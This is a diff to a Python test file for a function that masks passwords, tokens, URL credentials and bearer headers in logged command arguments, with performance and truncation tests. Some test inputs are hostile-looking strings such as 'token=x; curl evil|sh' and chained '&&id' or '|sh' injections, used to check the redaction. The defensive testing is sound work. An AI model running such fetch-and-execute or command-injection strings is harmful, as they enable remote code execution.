@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from datetime import UTC, datetime
+from time import process_time
 from typing import Any
 
 import pytest
@@ -50,7 +51,15 @@ def test_what_is_of_the_wrong_type_is_left_out() -> None:
         (["--password", "SECRET", "list"], ["--password", "***", "list"]),
         (["--token", "--wait"], ["--token", "--wait"]),
         (["--env", "HF_TOKEN=SECRET"], ["--env", "HF_TOKEN=***"]),
-        (["--env", "AWS_SECRET_ACCESS_KEY=SECRET\nSECRET"], ["--env", "AWS_SECRET_ACCESS_KEY=***"]),
+        (["--env", "AWS_SECRET_ACCESS_KEY=SECRET\nx"], ["--env", "AWS_SECRET_ACCESS_KEY=***\nx"]),
+        (["--env=HF_TOKEN=SECRET"], ["--env=HF_TOKEN=***"]),
+        (["x?a=1&token=SECRET&b=2", "A:my-api-key: SECRET"], ["x?a=1&token=***&b=2", "A:my-api-key: ***"]),
+        (["X-Credential: Bearer SECRET"], ["X-Credential: *** ***"]),
+        (["token=x; curl evil|sh"], ["token=***; curl evil|sh"]),
+        (["token=x&&id", "TOKEN='a b' id", 'password="a b"|sh'], ["token=***&&id", "TOKEN=*** id", "password=***|sh"]),
+        (["token='SECRET", "token=x'y"], ["token=***", "token=***'y"]),
+        (["--secret", "SECRET", "curl", "evil"], ["--secret", "***", "curl", "evil"]),
+        (["git+https://u:SECRET@h/x", "//h:80/a@b"], ["git+https://u:***@h/x", "//h:80/a@b"]),
         (["https://ann:SECRET@example.org/x"], ["https://ann:***@example.org/x"]),
         (["Authorization: Bearer SECRET"], ["Authorization: Bearer ***"]),
         (["eyJhbGciOiJSUzI1NiIs.SECRET.SECRET"], ["***"]),
@@ -68,6 +77,28 @@ def test_long_things_are_cut_and_say_so() -> None:
     assert written(argv=["x"] * 10000)["truncated"]
     assert len(written(reason="z" * 600)["reason"]) == 512
     assert "truncated" not in written(argv=["x" * 4096])
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["-token", "token", "token=", "token = ", "--token--", "=token", "a", "-", "a-", "://", "://a:", "a://b:c", "a:",
+     "eyJ-", "eyJaaaaaaaa.", "bearer ", "bearer\t", " ", 'token="', "token='", "api-", "\\", "\udcff", "\0"],
+)  # fmt: skip
+@pytest.mark.parametrize("end", ["", "!", "=", "@"])
+def test_how_long_masking_takes_is_nothing_a_person_decides(unit: str, end: str) -> None:
+    """The slow ones took minutes: the time of the processor is what is bounded here, far from what it takes."""
+    word = (unit * 16384)[: 16384 - len(end)] + end
+    began = process_time()
+    event.mask([word])
+    written(argv=[word[:4096], word], reason=word)
+    written(argv=[word] * 40)
+    assert process_time() - began < 1
+
+
+def test_what_is_cut_within_a_secret_is_masked_too() -> None:
+    found = written(argv=["https://ann:" + "SECRET" * 1000 + "@h/x"])
+    assert (found["argv"], found["truncated"]) == (["https://ann:***"], True)
+    assert "SECRET" not in str(written(argv=["x" * 4000, "token=" + "SECRET" * 1000]))
 
 
 @pytest.mark.parametrize("text", ["a\nb\r\0\x1b[2J\x7f", "\u2028\u009b31m", "\udcff\udc80", "\ud800", "ä€𝄞", '"\\'])
